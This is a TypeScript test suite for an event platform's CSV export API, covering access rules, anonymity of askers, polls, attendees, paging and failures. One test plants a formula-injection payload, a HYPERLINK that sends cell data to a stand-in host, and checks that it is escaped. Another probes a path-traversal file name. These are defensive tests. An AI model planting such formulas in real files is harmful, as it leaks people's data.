import { eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, expect, test } from "vitest";
import { users } from "../../db/schema/accounts-tables.ts";
import { pollOptions, polls, questions } from "../../db/schema/engagement-tables.ts";
import { attendees, sessions } from "../../db/schema/events-tables.ts";
import { auditLog } from "../../db/schema/operations-tables.ts";
import { chatMessages } from "../../db/schema/session-log-tables.ts";
import { exportSheetNames } from "../../protocol/exports.ts";
import { newIdentifier } from "../../protocol/identifier.ts";
import { makeRollUps, makeViewerHours } from "../analytics/test-watching.ts";
import { createPublicApp } from "../app.ts";
import { chatScene } from "../chat/test-chat-scene.ts";
import { call, newToken, signIn } from "../streams/test-client.ts";
import { giveRole, makeEvent, makeSession, makeUser, seat } from "../streams/test-scene.ts";
import { createTestApi, type TestApi } from "../test-application.ts";
import { fetchSheet, type SheetRow } from "./test-export.ts";

let api: TestApi;
let token: string;
beforeAll(async () => {
  api = await createTestApi();
  token = await newToken(api, "admin");
});
afterAll(() => api.drop());

const sheet = (eventId: string, name: (typeof exportSheetNames)[number]) =>
  fetchSheet(api, token, eventId, name);

test("a sheet is a file to keep, with a name that people can read", async () => {
  const eventId = await makeEvent(api.deps.db, { title: "Frühjahr/Herbst" });
  const { headers, text } = await sheet(eventId, "chat");
  expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
  expect(headers.get("cache-control")).toBe("no-store");
  expect(headers.get("content-disposition")).toBe(
    "attachment; filename=\"Fruhjahr-Herbst chat.csv\"; filename*=UTF-8''Fr%C3%BChjahr-Herbst%20chat.csv",
  );
  expect(text.startsWith("\ufeffsent_at,session,author,")).toBe(true);
  expect(text.endsWith("\r\n")).toBe(true);
  const entries = await api.deps.db.select().from(auditLog).where(eq(auditLog.subjectId, eventId));
  expect(entries).toMatchObject([{ action: "event.exported", detail: { file: "chat.csv" } }]);
  const head = await api.publicApp.request(`/api/events/${eventId}/export/chat.csv`, {
    method: "HEAD",
    headers: { authorization: `Bearer ${token}` },
  });
  expect([head.status, await head.text()]).toEqual([200, ""]);
});

test.each(exportSheetNames)(
  "%s of an event in which nothing was is its first line alone, or zeros",
  async (name) => {
    const { db } = api.deps;
    const now = new Date();
    const empty = await makeEvent(db);
    const ofZeroSeconds = await makeEvent(db, { status: "ended", startsAt: now, endsAt: now });
    await makeSession(db, ofZeroSeconds, { status: "ended", startsAt: now, endsAt: now });
    for (const eventId of [empty, ofZeroSeconds]) {
      const { columns, rows } = await sheet(eventId, name);
      expect(columns.length).toBeGreaterThan(4);
      expect(rows.filter(({ of }) => of === undefined)).toEqual([]);
      for (const row of rows) expect([row.unique_viewers, row.watch_seconds]).toEqual(["0", "0"]);
    }
  },
);

test("who is not staff gets none, and what is no sheet is not there", async () => {
  const { ada, moderator, eventId, db } = await chatScene(api);
  await call(api, "GET", `/api/events/${eventId}/export/chat.csv`, 403, ada);
  await call(api, "GET", `/api/events/${eventId}/export/chat.csv`, 401);
  const speaker = await makeUser(db);
  await giveRole(db, eventId, speaker, "speaker");
  await call(api, "GET", `/api/events/${eventId}/export/chat.csv`, 403, await signIn(api, speaker));
  for (const file of ["chat", "chat.xlsx", "users.csv", "..%2Fchat.csv", "CHAT.csv"]) {
    await call(api, "GET", `/api/events/${eventId}/export/${file}`, 404, moderator);
  }
  await call(api, "GET", `/api/events/${newIdentifier("event")}/export/chat.csv`, 404, moderator);
  expect((await fetchSheet(api, moderator.token, eventId, "chat")).rows).toEqual([]);
});

test("the chat has all that was written, with what others do not see", async () => {
  const { ada, bob, moderator, sessionId, eventId } = await chatScene(api);
  const first = (await ada.say("Hello, all")).body.id as string;
  await bob.say("Hello back", { replyTo: first });
  const gone = (await bob.say("Nonsense")).body.id as string;
  await moderator.send("DELETE", `/api/chat/${gone}`, 204);
  await moderator.send("PATCH", `/api/chat/${first}/pin`, 200, { pinned: true });
  const mute = { userId: bob.id, seconds: 60, shadow: true };
  await moderator.send("POST", `/api/chat/session/${sessionId}/mutes`, 201, mute);
  await bob.say("Anyone?");
  const { rows } = await sheet(eventId, "chat");
  const shown = rows.map(({ author, text, state, deleted, pinned, reply_to }) => [
    author,
    text,
    state,
    deleted,
    pinned,
    reply_to,
  ]);
  expect(shown).toEqual([
    ["Person 0", "Hello, all", "visible", "false", "true", ""],
    ["Person 1", "Hello back", "visible", "false", "false", first],
    ["Person 1", "Nonsense", "visible", "true", "false", ""],
    ["Person 1", "Anyone?", "shadowed", "false", "false", ""],
  ]);
  expect(rows[0]).toMatchObject({
    session: "Keynote",
    author_id: ada.id,
    message_id: first,
    role: "attendee",
  });
  expect(rows[0]?.sent_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
});

test("who asks anonymously stays unnamed, unless the session said otherwise then and says so now", async () => {
  const { ada, moderator, sessionId, eventId, db } = await chatScene(api);
  const ask = (text: string, anonymous: boolean) =>
    ada.send("POST", `/api/questions/session/${sessionId}`, 201, { text, anonymous });
  const showAskers = (askersVisibleToStaff: boolean) =>
    db.update(sessions).set({ askersVisibleToStaff }).where(eq(sessions.id, sessionId));
  await ask("Open?", false);
  await ask("Promised?", true);
  await showAskers(true);
  await ask("Known to staff?", true);
  const askers = async () => {
    const { rows, text } = await fetchSheet(api, moderator.token, eventId, "questions");
    return { text, asked: rows.map((row) => [row.text, row.anonymous, row.asker, row.asker_id]) };
  };
  expect((await askers()).asked).toEqual([
    ["Open?", "false", "Person 0", ada.id],
    ["Promised?", "true", "", ""],
    ["Known to staff?", "true", "Person 0", ada.id],
  ]);
  await showAskers(false);
  expect((await askers()).asked.map(([, , asker]) => asker)).toEqual(["Person 0", "", ""]);
});

test("the attendees' sheet does not tell who asked anonymously", async () => {
  const { ada, sessionId, eventId, db } = await chatScene(api, { members: 1 });
  const at = new Date();
  await makeViewerHours(
    db,
    [eventId, sessionId],
    [{ viewerId: ada.id, firstAt: at, lastAt: at, watchedSeconds: 1 }],
  );
  const rowOfAda = async () =>
    (await sheet(eventId, "attendees")).rows.find(({ viewer_id }) => viewer_id === ada.id);
  const before = await rowOfAda();
  await ada.send("POST", `/api/questions/session/${sessionId}`, 201, { text: "Why?", anonymous: true });
  expect(await rowOfAda()).toEqual(before);
  await ada.send("POST", `/api/questions/session/${sessionId}`, 201, { text: "How?" });
  expect(await rowOfAda()).toMatchObject({ questions: "1" });
});

test("polls have a row for each option, in order, with shares of those who voted", async () => {
  const { ada, bob, moderator, sessionId, eventId } = await chatScene(api);
  const poll = { sessionId, question: "Tea?", options: ["Yes", "No", "Both"], multiple: true };
  const { body } = await moderator.send("POST", "/api/polls", 201, poll);
  const [yes, , both] = body.options.map(({ id }: { id: string }) => id);
  await ada.send("POST", `/api/polls/${body.id}/vote`, 200, { optionIds: [yes] });
  await bob.send("POST", `/api/polls/${body.id}/vote`, 200, { optionIds: [yes, both] });
  const { rows } = await sheet(eventId, "polls");
  expect(
    rows.map((row) => [row.option_number, row.option, row.votes, row.voters, row.share_of_voters]),
  ).toEqual([
    ["1", "Yes", "2", "2", "1"],
    ["2", "No", "0", "2", "0"],
    ["3", "Both", "1", "2", "0.5"],
  ]);
  expect(rows[0]).toMatchObject({ question: "Tea?", status: "open", multiple: "true", poll_id: body.id });
});

test("attendees are everybody with a seat, and whoever came without one", async () => {
  const { db } = api.deps;
  const eventId = await makeEvent(db);
  const at = new Date("2025-04-01T10:00:00.000Z");
  const sessionId = await makeSession(db, eventId, {
    status: "ended",
    startsAt: at,
    endsAt: new Date(at.getTime() + 400_000),
  });
  const [came, stayedAway, guest] = [await makeUser(db), await makeUser(db), await makeUser(db)];
  const anonymous = newIdentifier("viewer");
  // Not `seat` twice: that may be within one millisecond, where the id decides.
  await db.insert(attendees).values([
    { eventId, userId: came, joinedAt: at },
    { eventId, userId: stayedAway, joinedAt: new Date(at.getTime() + 1) },
  ]);
  const lastAt = new Date(at.getTime() + 200_000);
  const viewers = [came, guest, anonymous].map((viewerId) => ({
    viewerId,
    firstAt: at,
    lastAt,
    watchedSeconds: 100,
  }));
  await makeViewerHours(db, [eventId, sessionId], viewers);
  const sums = { at, viewers: 3, watchedSeconds: 300 };
  await makeRollUps(
    db,
    [eventId, sessionId],
    [
      { span: "minute", ...sums },
      { span: "hour", ...sums },
    ],
  );
  const { rows } = await sheet(eventId, "attendees");
  expect(rows.map((row) => row.viewer_id)).toEqual([came, stayedAway, ...[guest, anonymous].sort()]);
  const row = (id: string) => rows.find(({ viewer_id }) => viewer_id === id) as SheetRow;
  expect(row(came)).toMatchObject({
    name: "Ada",
    email: `${came.toLowerCase()}@example.org`,
    role: "attendee",
    first_seen_at: at.toISOString(),
    last_seen_at: lastAt.toISOString(),
    watch_seconds: "100",
    watch_share: "0.25",
    sessions_attended: "1",
  });
  expect(Number(row(came).engagement_score)).toBeGreaterThan(0);
  expect(row(stayedAway)).toMatchObject({ first_seen_at: "", watch_seconds: "0", sessions_attended: "0" });
  expect(row(stayedAway).joined_at).not.toBe("");
  expect(row(guest)).toMatchObject({ name: "Ada", joined_at: "", watch_seconds: "100" });
  expect(row(anonymous)).toMatchObject({ name: "", email: "", role: "", watch_seconds: "100" });
  const watched = await sheet(eventId, "watch");
  expect(
    watched.rows.map(({ session, viewer_id, watch_seconds }) => [session, viewer_id, watch_seconds]),
  ).toEqual([came, guest, anonymous].sort().map((id) => ["Keynote", id, "100"]));
  const summary = await sheet(eventId, "summary");
  expect(summary.rows.map((each) => [each.of, each.title, each.unique_viewers, each.watch_seconds])).toEqual([
    ["event", "Launch", "3", "300"],
    ["session", "Keynote", "3", "300"],
  ]);
  expect((await sheet(eventId, "viewers")).rows).toMatchObject([{ at: at.toISOString(), viewers: "3" }]);
  expect(summary.rows[0]).toMatchObject({ seats: "2", seats_taken: "1", signed_in_viewers: "2" });
});

test("no text of anybody's opens as a formula, in any column of any sheet", async () => {
  const { db } = api.deps;
  const evil = '=HYPERLINK("http://example.org?"&A1,"x")\r\n;@SUM(1)';
  const eventId = await makeEvent(db, { title: evil });
  const at = new Date();
  const sessionId = await makeSession(db, eventId, { title: evil, startsAt: at });
  const userId = await makeUser(db, "attendee", evil);
  await db
    .update(users)
    .set({ email: `+${userId.toLowerCase()}@example.org` })
    .where(eq(users.id, userId));
  await seat(db, eventId, userId);
  await makeViewerHours(
    db,
    [eventId, sessionId],
    [{ viewerId: userId, firstAt: at, lastAt: at, watchedSeconds: 5, renditions: { [evil]: 5 } }],
  );
  await db
    .insert(chatMessages)
    .values({ id: newIdentifier("message"), sessionId, seq: 1, userId, text: evil });
  await db
    .insert(questions)
    .values({ id: newIdentifier("question"), sessionId, userId, text: evil, answer: evil });
  const pollId = newIdentifier("poll");
  await db.insert(polls).values({ id: pollId, sessionId, question: evil });
  await db.insert(pollOptions).values({ id: newIdentifier("pollOption"), pollId, position: 0, text: evil });
  for (const name of exportSheetNames) {
    const { rows } = await sheet(eventId, name);
    const cells = rows.flatMap((row) => Object.entries(row));
    for (const [column, cell] of cells) expect(cell, `${name} ${column}`).not.toMatch(/(^|;)[\s"]*[=+@\t\r]/);
    if (name !== "viewers") expect(JSON.stringify(rows), name).toContain("'=HYPERLINK");
  }
});

test("a text as long as may be, and more rows than a page, arrive whole", async () => {
  const { db } = api.deps;
  const eventId = await makeEvent(db);
  const sessionId = await makeSession(db, eventId);
  const userId = await makeUser(db);
  const longest = '\u{1f469}\u200d\u{1f4bb}"\r\n'.repeat(1100);
  await db.execute(sql`
    insert into chat_messages (id, session_id, seq, user_id, text)
    select 'msg_long_' || ${sessionId} || seq, ${sessionId}, seq, ${userId},
           case when seq = 700 then ${longest} else 'message ' || seq end
    from generate_series(1, 1201) seq`);
  const { rows } = await sheet(eventId, "chat");
  expect(rows.map(({ text }) => text)).toEqual(
    Array.from({ length: 1201 }, (_, index) => (index === 699 ? longest : `message ${index + 1}`)),
  );
});

/** A session of 1,200 questions: three pages of them, each by somebody else. */
async function manyQuestions() {
  const { db } = api.deps;
  const eventId = await makeEvent(db);
  const sessionId = await makeSession(db, eventId);
  const askers = [await makeUser(db, "attendee", "Early"), await makeUser(db, "attendee", "Late")];
  await db.execute(sql`
    insert into questions (id, session_id, user_id, text, created_at)
    select 'qst_many_' || ${sessionId} || number, ${sessionId},
           case when number <= 100 then ${askers[0]} else ${askers[1]} end, 'Question ' || number,
           now() + number * interval '1 second'
    from generate_series(1, 1200) number`);
  return { eventId, sessionId, askers };
}

test("a user who is deleted while a sheet is read takes no row along, and is nobody in what follows", async () => {
  const { eventId, askers } = await manyQuestions();
  const response = await createPublicApp(api.deps).request(`/api/events/${eventId}/export/questions.csv`, {
    headers: { authorization: `Bearer ${token}` },
  });
  const reader = response.body!.pipeThrough(new TextDecoderStream()).getReader();
  let text = (await reader.read()).value ?? "";
  await call(api, "DELETE", `/api/users/${askers[1]}`, 204, { token });
  for (let part = await reader.read(); !part.done; part = await reader.read()) text += part.value;
  const names = text
    .trimEnd()
    .split("\r\n")
    .slice(1)
    .map((line) => line.split(",")[2]);
  expect(names).toHaveLength(1200);
  expect(new Set(names)).toEqual(new Set(["Early", "Late", "Deleted user"]));
  expect(names.at(-1)).toBe("Deleted user");
  const anew = await sheet(eventId, "questions");
  expect(anew.text).not.toContain("Late");
});

test("what fails midway does not look like a whole file, and is logged", async () => {
  const { eventId } = await manyQuestions();
  const { deps, logLines } = api;
  // Without the check of answers against the contract, which reads each one to its end first.
  const publicApp = createPublicApp(deps);
  const response = await publicApp.request(`/api/events/${eventId}/export/questions.csv`, {
    headers: { authorization: `Bearer ${token}` },
  });
  expect(response.status).toBe(200);
  await deps.db.execute(sql`alter table questions rename to questions_away`);
  try {
    await expect(response.text()).rejects.toThrow();
  } finally {
    await deps.db.execute(sql`alter table questions_away rename to questions`);
  }
  await api.settled();
  const ended = logLines.map((line) => JSON.parse(line)).filter(({ event }) => event === "file-ended");
  expect(ended.at(-1)).toMatchObject({ level: "error", outcome: "failed" });
});
